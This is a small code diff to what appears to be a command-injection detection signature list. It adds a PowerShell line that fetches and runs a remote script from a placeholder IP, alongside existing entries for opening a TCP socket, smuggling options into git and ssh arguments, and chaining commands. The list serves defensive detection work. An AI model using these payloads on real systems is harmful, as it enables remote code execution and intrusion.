@@ -20,6 +20,7 @@ export const commandInjection: Signature = {
       ';id',
       `'ping -c 1 192.0.2.1'.execute()`,
       'powershell -c New-Object Net.Sockets.TcpClient("192.0.2.1",44)',
+      'powershell IEX(IWR http://192.0.2.1/x.ps1)',
       '-oProxyCommand=id',
       '--upload-pack=touch /tmp/x',
       '1&ver&rem',
